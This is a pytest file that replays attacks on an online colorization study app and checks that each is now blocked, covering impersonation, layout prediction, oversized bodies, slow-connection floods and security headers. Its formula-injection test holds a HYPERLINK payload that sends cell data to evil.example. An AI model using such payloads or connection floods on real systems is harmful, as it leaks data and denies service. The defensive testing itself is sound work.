"""Issue 15's attacks on the study, replayed: each test does what the attacker did and checks that
it no longer gets through. Numbers refer to the findings in the threat model of docs/study.md."""

from __future__ import annotations

import argparse
import base64
import csv
import importlib.util
import io
import logging
import random
import resource
import socket
import sqlite3
import sys
import threading
from collections import Counter
from pathlib import Path

import httpx
import numpy as np
import pytest
from PIL import Image
from sqlalchemy import event, select
from sqlalchemy.exc import OperationalError

from colorizer.errors import UserError
from study import prepare as prepare_module
from study.app import create_app
from study.cli import admin_token
from study.db import database_session
from study.export import export_csv, stimuli, vote_rows
from study.models import CATCH_MODEL, Assignment, Participant, Trial
from study.prepare import prepare_study
from tests.study_support import (
    ADMIN_TOKEN,
    FAKE_COLORIZERS,
    STUDY,
    answer_all,
    enrol,
    live_app,
    token_header,
    vote,
    vote_body,
)

pytestmark = pytest.mark.timeout(120)

BENCH = Path(__file__).resolve().parents[1] / "bench" / "study_load.py"


def admin_csv(client) -> list[dict]:
    response = client.get("/admin/export.csv", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.text)))


# 1. Predictable layout


def balanced_flips(count: int, rng: random.Random) -> list[bool]:
    """The layout code before the fix: `count` coin flips, as many heads as tails."""
    flips = [True, False] * (count // 2) + [rng.random() < 0.5] * (count % 2)
    rng.shuffle(flips)
    return flips


def layout_from_public_ids(participant_id: str, trials: list[Trial]) -> list[tuple[str, int]]:
    """The attack: the code before the fix, replayed from the ids the participant was sent."""
    rng = random.Random(participant_id)
    layout = []
    for group in ([t for t in trials if not t.is_catch], [t for t in trials if t.is_catch]):
        for trial, swap in zip(group, balanced_flips(len(group), rng), strict=True):
            layout.append((trial.id, trial.stimulus_b_id if swap else trial.stimulus_a_id))
    rng.shuffle(layout)
    return layout


def test_layouts_cannot_be_replayed_from_public_ids(client, prepared):
    participant_ids = [enrol(client)["participant_id"] for _ in range(10)]
    with database_session(prepared.db_url) as session:
        trials = list(session.scalars(select(Trial).order_by(Trial.id)))
        for participant_id in participant_ids:
            actual = session.execute(
                select(Assignment.trial_id, Assignment.left_stimulus_id)
                .where(Assignment.participant_id == participant_id)
                .order_by(Assignment.position)
            ).all()
            assert [tuple(row) for row in actual] != layout_from_public_ids(participant_id, trials)


def test_the_same_ids_get_different_layouts(client, prepared):
    from study.models import Study
    from study.service import assign_trials, study_trials

    with database_session(prepared.db_url) as session:
        trials = study_trials(session, session.scalars(select(Study)).one())
    layouts = set()
    for _ in range(10):
        participant = Participant(id="always-the-same")
        assign_trials(participant, trials)
        layouts.add(tuple((a.trial_id, a.left_stimulus_id) for a in participant.assignments))
    assert len(layouts) > 1


# 2. File times and sizes


def test_stimuli_are_served_without_file_times(client):
    participant = enrol(client)
    response = client.get(participant["trials"][0]["left"])
    assert response.status_code == 200 and response.content[:2] == b"\xff\xd8"
    assert "etag" not in response.headers and "last-modified" not in response.headers
    assert response.headers["content-type"] == "image/jpeg"


def noisy_photos(folder: Path, count: int) -> Path:
    rng = np.random.default_rng(0)
    folder.mkdir()
    for index in range(count):
        Image.fromarray(rng.integers(0, 256, (72, 96, 3), dtype=np.uint8)).save(folder / f"{index}.png")
    return folder


def test_write_order_and_catch_file_sizes_say_nothing(tmp_path, monkeypatch):
    written: list[str] = []
    original_write = prepare_module.StimulusWriter.write

    def recording_write(self, content: bytes) -> str:
        written.append(original_write(self, content))
        return written[-1]

    monkeypatch.setattr(prepare_module.StimulusWriter, "write", recording_write)
    db_url = f"sqlite:///{tmp_path / 'votes.db'}"
    photos = noisy_photos(tmp_path / "photos", 24)
    prepare_study(db_url, STUDY, FAKE_COLORIZERS, photos, tmp_path / "media", n=12, catch=12)

    order = {name: position for position, name in enumerate(written)}
    pairs: dict[int, dict[str, Path]] = {}
    for row in stimuli(db_url):
        pairs.setdefault(row["image_id"], {})[row["model"]] = Path(row["path"])
    assert all(set(pair) == {"dogs", "coco", CATCH_MODEL} for pair in pairs.values())
    # Whether model A's file was written before model B's.
    first_written = Counter(order[pair["dogs"].name] < order[pair["coco"].name] for pair in pairs.values())
    assert first_written[True] > 0 and first_written[False] > 0

    # The bot that picks the larger file: within 2x of the partner, and not always the intact one.
    with database_session(db_url) as session:
        catch_sides = [(trial.stimulus_a.file_name, trial.stimulus_b.file_name)
                       for trial in session.scalars(select(Trial).where(Trial.is_catch))]
    larger_is_intact = []
    for intact_name, degraded_name in catch_sides:
        intact = (tmp_path / "media" / intact_name).stat().st_size
        degraded = (tmp_path / "media" / degraded_name).stat().st_size
        assert 0.5 <= degraded / intact <= 2, (degraded, intact)
        larger_is_intact.append(intact > degraded)
    assert len(larger_is_intact) == 24 and not all(larger_is_intact)


# 3. Impersonation


def test_an_external_id_alone_does_not_give_the_participant_away(client, prepared):
    victim = enrol(client, "PROLIFIC-VICTIM")
    assert len(base64.urlsafe_b64decode(victim["participant_token"] + "=")) * 8 >= 128
    vote(client, victim, victim["trials"][0])

    # Enrolling with the victim's (public) external id reveals neither id, token nor code.
    response = client.post("/api/participants", json={"external_id": "PROLIFIC-VICTIM"})
    assert response.status_code == 409
    assert set(response.json()) == {"error"} and "continue in the browser" in response.json()["error"]
    for secret in (victim["participant_id"], victim["participant_token"]):
        assert secret not in response.text
    wrong = {"X-Participant-Token": "guessed-token-guessed-token-guessed-token-1"}
    assert client.post("/api/participants", json={"external_id": "PROLIFIC-VICTIM"}, headers=wrong).status_code == 403

    # Knowing the participant id is not enough to read their state or to vote as them.
    path = f"/api/participants/{victim['participant_id']}"
    assert client.get(path).status_code == 401
    assert client.get(path, headers=wrong).status_code == 403
    open_trial = client.get(path, headers=token_header(victim)).json()["trials"][0]
    body = vote_body(victim, open_trial, client_vote_id="forged")
    assert client.post("/api/votes", json=body).status_code == 401
    assert client.post("/api/votes", json=body, headers=wrong).status_code == 403
    assert len(vote_rows(prepared.db_url)) == 1

    # The real participant, with the token, continues.
    assert enrol(client, "PROLIFIC-VICTIM", expected_status=200, headers=token_header(victim))["answered"] == 1


def test_a_resent_enrolment_with_its_key_gets_the_participant_back(client):
    first = enrol(client, "lost-answer", client_enrolment_id="page-key-1")
    again = enrol(client, "lost-answer", expected_status=200, client_enrolment_id="page-key-1")
    assert again["participant_id"] == first["participant_id"]
    # The first answer's token was lost on the way: it is replaced.
    assert client.get(f"/api/participants/{first['participant_id']}", headers=token_header(first)).status_code == 403
    assert client.get(f"/api/participants/{first['participant_id']}", headers=token_header(again)).status_code == 200
    other_key = {"external_id": "lost-answer", "client_enrolment_id": "other"}
    assert client.post("/api/participants", json=other_key).status_code == 409


# 4. The server trusts no client


def test_trials_are_released_one_at_a_time(client, prepared):
    participant = enrol(client)
    assert len(participant["trials"]) == 2
    with database_session(prepared.db_url) as session:
        order = list(
            session.scalars(
                select(Assignment.public_id)
                .where(Assignment.participant_id == participant["participant_id"])
                .order_by(Assignment.position)
            )
        )
    # The last trial (never shown) and the preloaded next one cannot be answered yet.
    for trial_id in (order[-1], order[1]):
        vote(client, participant, {"trial_id": trial_id}, rt_ms=0, expected_status=409)
    assert vote_rows(prepared.db_url) == []
    seen = set()
    for answer in [participant, *answer_all(client, participant)]:
        assert len(answer["trials"]) <= 2
        seen.update(trial["trial_id"] for trial in answer["trials"])
    assert seen == set(order)


@pytest.mark.parametrize("rt_ms", [True, "5", " 7 ", 5.5, None])
def test_response_times_must_be_json_integers(client, prepared, rt_ms):
    participant = enrol(client)
    body = {**vote_body(participant, participant["trials"][0]), "rt_ms": rt_ms}
    assert client.post("/api/votes", json=body, headers=token_header(participant)).status_code == 422
    assert vote_rows(prepared.db_url) == []


def test_a_bot_is_flagged_by_the_servers_own_clock(client, prepared):
    participant = enrol(client, "bot")
    trials = participant["trials"]
    answers = []
    while trials:
        answers.append(vote(client, participant, trials[0], rt_ms=2000, exposure_ms=5000, lost_focus=True))
        trials = answers[-1]["trials"]
    assert answers[-1]["completion_code"]  # stored, not refused...
    rows = admin_csv(client)
    assert len(rows) == prepared.trials
    # ...but its claimed 2 s per trial is contradicted by the server's clock, and every vote is invalid
    # (this study has no minimum response time: tests/test_study_attacks.py checks the default one).
    assert all(row["time_mismatch"] == row["invalid"] == "True" and int(row["server_ms"]) < 2000 for row in rows)
    assert all(row["exposure_ms"] == "5000" and row["lost_focus"] == "True" for row in rows)


# 5. Formula injection


def test_exports_escape_spreadsheet_formulas(client, prepared, tmp_path):
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3", "@SUM(A1)"]
    for external_id in formulas:
        participant = enrol(client, external_id)
        vote(client, participant, participant["trials"][0])
    export_csv(prepared.db_url, tmp_path / "votes.csv")
    for rows in (admin_csv(client), list(csv.DictReader((tmp_path / "votes.csv").open()))):
        assert sorted(row["external_id"] for row in rows) == sorted(f"'{value}" for value in formulas)
        for row in rows:
            assert not any(str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    # The rows for analysis keep the values as they are.
    assert sorted(row["external_id"] for row in vote_rows(prepared.db_url)) == sorted(formulas)


# 6. Limits


def test_bodies_over_64_kb_are_refused(client, prepared):
    participant = enrol(client)
    body = {**vote_body(participant, participant["trials"][0]), "padding": "x" * 70_000}
    response = client.post("/api/votes", json=body, headers=token_header(participant))
    assert response.status_code == 413
    assert vote_rows(prepared.db_url) == []


def load_bench():
    spec = importlib.util.spec_from_file_location("study_load", BENCH)
    bench = importlib.util.module_from_spec(spec)
    sys.modules.setdefault(spec.name, bench)  # its dataclasses look their module up there
    spec.loader.exec_module(bench)
    return bench


@pytest.fixture
def served(tmp_path):
    """`colorizer study serve` in a subprocess (with its connection limits), as the load bench runs it."""
    bench = load_bench()
    server = bench.Server(bench.prepare(tmp_path, images=3, catch=1), bench.free_port(), tmp_path / "server.log")
    server.start()
    yield server
    server.stop()


def http_status(address: tuple[str, int], request: bytes) -> bytes:
    with socket.create_connection(address, timeout=30) as sock:
        sock.sendall(request)
        return sock.recv(4096).split(b"\r\n", 1)[0]


@pytest.mark.slow
def test_a_huge_body_is_refused_before_it_is_sent(served):
    head = b"POST /api/votes HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 500000000\r\n\r\n"
    assert http_status(served.address, head).startswith(b"HTTP/1.1 413 ")


@pytest.mark.slow
def test_slow_connections_do_not_lock_others_out(served):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if hard != resource.RLIM_INFINITY and hard < 1400:
        pytest.skip("the open-file limit is too low to open 1,100 connections")
    resource.setrlimit(resource.RLIMIT_NOFILE, (1400 if hard == resource.RLIM_INFINITY else min(4096, hard), hard))
    slow = []
    try:
        for _ in range(1100):
            sock = socket.create_connection(served.address, timeout=30)
            sock.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")  # a request head that never ends
            slow.append(sock)
        with httpx.Client(base_url=f"http://{served.address[0]}:{served.address[1]}", timeout=30) as ordinary:
            assert ordinary.get("/").status_code == 200
            assert ordinary.post("/api/participants", json={}).status_code == 201
    finally:
        for sock in slow:
            sock.close()
        resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))


# 7. Storage failures


def test_storage_failures_are_logged_and_answered_503(client, prepared, caplog):
    participant = enrol(client)
    engine = client.app.state.study.database.engine

    def disk_full(*_args, **_kwargs):
        raise OperationalError("INSERT", {}, sqlite3.OperationalError("database or disk is full"))

    event.listen(engine, "before_cursor_execute", disk_full)
    try:
        with caplog.at_level(logging.ERROR, logger="study"):
            body = vote_body(participant, participant["trials"][0])
            for _ in range(3):
                response = client.post("/api/votes", json=body, headers=token_header(participant))
                assert response.status_code == 503 and int(response.headers["retry-after"]) > 0
    finally:
        event.remove(engine, "before_cursor_execute", disk_full)
    # One line with the cause, not one per request.
    assert [record.getMessage() for record in caplog.records if "storage error" in record.getMessage()] == [
        "storage error, answering 503: OperationalError: database or disk is full"
    ]
    # The page resends the kept vote once storage is back.
    vote(client, participant, participant["trials"][0])
    page_script = client.get("/static/study.js").text
    assert "patienceMs" in page_script and "keep this page open" in page_script


# 8. An outside SQLite lock


def test_an_outside_write_lock_holds_up_no_page_picture_or_script(tmp_path):
    db_file = tmp_path / "votes.db"
    photos = noisy_photos(tmp_path / "photos", 3)
    prepare_study(f"sqlite:///{db_file}", STUDY, FAKE_COLORIZERS, photos, tmp_path / "media", n=2, catch=1)
    with live_app(create_app(f"sqlite:///{db_file}")) as url, httpx.Client(base_url=url, timeout=60) as http:
        participants = [http.post("/api/participants", json={}).json() for _ in range(50)]
        outside = sqlite3.connect(db_file, isolation_level=None)
        outside.execute("BEGIN IMMEDIATE")  # another process takes the write lock
        statuses: list[int] = []

        def send_vote(participant: dict) -> None:
            body = vote_body(participant, participant["trials"][0])
            response = httpx.post(f"{url}/api/votes", json=body, headers=token_header(participant), timeout=60)
            statuses.append(response.status_code)

        voters = [threading.Thread(target=send_vote, args=(p,)) for p in participants]
        for voter in voters:
            voter.start()
        try:
            # With every database thread waiting for the lock, these must still be answered (before
            # the lock is released below; the votes would time out and fail if they had to wait).
            assert http.get("/").status_code == 200
            assert http.get("/static/study.js").status_code == 200
            assert http.get(participants[0]["trials"][0]["left"]).status_code == 200
        finally:
            outside.execute("ROLLBACK")
            outside.close()
            for voter in voters:
                voter.join()
    assert statuses == [200] * 50


# 10. Headers, admin token, status codes


def test_every_response_carries_the_security_headers(client):
    participant = enrol(client)
    for response in (
        client.get("/"),
        client.get("/static/study.js"),
        client.get(participant["trials"][0]["left"]),
        client.get("/api/participants/nobody"),
        client.post("/api/votes", content=b"{not json", headers={"Content-Type": "application/json"}),
    ):
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
        assert "default-src 'self'" in response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "no-referrer"


def test_error_responses_from_outside_the_routes_carry_the_security_headers(prepared, monkeypatch):
    from fastapi.testclient import TestClient

    from study import service

    def fail(*_arguments):
        raise RuntimeError("a bug")

    monkeypatch.setattr(service, "resume", fail)
    with TestClient(create_app(prepared.db_url), raise_server_exceptions=False) as client:
        crashed = client.get("/api/participants/someone", headers={"X-Participant-Token": "token"})
        too_large = client.post("/api/votes", content=b"x" * 70_000, headers={"Content-Type": "application/json"})
    assert (crashed.status_code, too_large.status_code) == (500, 413)
    for response in (crashed, too_large):
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["referrer-policy"] == "no-referrer"
        assert "a bug" not in response.text


def test_serve_does_not_name_its_server_software(prepared, monkeypatch):
    import uvicorn

    from study import cli

    served = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **options: served.update(options))
    monkeypatch.setattr(cli, "raise_open_file_limit", lambda: None)
    parser = argparse.ArgumentParser()
    cli.register(parser.add_subparsers())
    monkeypatch.setenv("COLORIZER_ADMIN_TOKEN", ADMIN_TOKEN)
    assert cli.run_serve(parser.parse_args(["study", "serve", "--db", prepared.db_url])) == 0
    assert served["server_header"] is False  # uvicorn's default sends `server: uvicorn`
    # The request-head timeout and per-client connection limit live in the server's HTTP protocol.
    assert served["http"].__name__ == "GuardedHttpProtocol"


def test_admin_tokens_come_from_a_file_or_the_environment(prepared, tmp_path, monkeypatch, capsys):
    with pytest.raises(UserError, match="at least 16 characters"):
        create_app(prepared.db_url, admin_token="short")
    arguments = {"admin_token": None, "admin_token_file": None}
    token_file = tmp_path / "token"
    token_file.write_text(ADMIN_TOKEN + "\n")
    assert admin_token(argparse.Namespace(**{**arguments, "admin_token_file": str(token_file)})) == ADMIN_TOKEN
    with pytest.raises(UserError, match="cannot read the admin token file"):
        admin_token(argparse.Namespace(**{**arguments, "admin_token_file": str(tmp_path / "missing")}))
    monkeypatch.setenv("COLORIZER_ADMIN_TOKEN", "from-the-environment")
    assert admin_token(argparse.Namespace(**arguments)) == "from-the-environment"
    assert capsys.readouterr().err == ""
    assert admin_token(argparse.Namespace(**{**arguments, "admin_token": ADMIN_TOKEN})) == ADMIN_TOKEN
    assert "visible to every user" in capsys.readouterr().err
